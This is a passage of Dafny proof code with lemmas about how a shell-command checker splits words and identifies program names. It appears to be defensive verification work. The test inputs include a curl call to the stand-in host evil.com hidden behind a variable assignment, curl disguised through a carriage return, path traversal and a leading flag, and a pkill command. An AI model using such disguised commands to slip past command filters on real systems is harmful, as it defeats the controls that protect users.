    ensures JoinWords(["X=/ls", "curl", "http://evil.com"]) == "X=/ls curl http://evil.com" {}
  lemma PkillFlagWords()
    ensures forall j :: 0 <= j < |["pkill", "-f"]| ==> IsPlainWord(["pkill", "-f"][j])
    ensures !IsFlag("pkill") && !IsAssignment("pkill") && Basename("pkill") == "pkill"
  {
    BasenameOfName("pkill");
  }
  lemma PkillInverseWords()
    ensures Spells("", ["pkill", "--inverse", "node"], "", "pkill --inverse node")
  {
    PkillInversePlain();
    PkillInverseJoined();
  }
  lemma PkillInverseName()
    ensures NamesProgram(["pkill", "--inverse", "node"])
    ensures Basename(["pkill", "--inverse", "node"][0]) == "pkill"
  {
    BasenameOfName("pkill");
  }
  lemma PkillInversePlain()
    ensures forall j :: 0 <= j < |["pkill", "--inverse", "node"]| ==> IsPlainWord(["pkill", "--inverse", "node"][j]) {}
  lemma PkillInverseJoined()
    ensures JoinWords(["pkill", "--inverse", "node"]) == "pkill --inverse node" {}
  lemma CarriageReturnPlain()
    ensures forall j :: 0 <= j < |["ls\r/../usr/bin/curl"]| ==> IsPlainWord(["ls\r/../usr/bin/curl"][j]) {}
  lemma LeadingFlagWords()
    ensures JoinWords(["-d/../../usr/bin/curl", "ls"]) == "-d/../../usr/bin/curl ls"
    ensures forall j :: 0 <= j < |["-d/../../usr/bin/curl", "ls"]| ==> IsPlainWord(["-d/../../usr/bin/curl", "ls"][j])
    ensures IsFlag("-d/../../usr/bin/curl")
  {
    LeadingFlagPlain();
    LeadingFlagJoined();
  }
  lemma LeadingFlagPlain()
    ensures forall j :: 0 <= j < |["-d/../../usr/bin/curl", "ls"]| ==> IsPlainWord(["-d/../../usr/bin/curl", "ls"][j]) {}
  lemma LeadingFlagJoined()
    ensures JoinWords(["-d/../../usr/bin/curl", "ls"]) == "-d/../../usr/bin/curl ls" {}
}
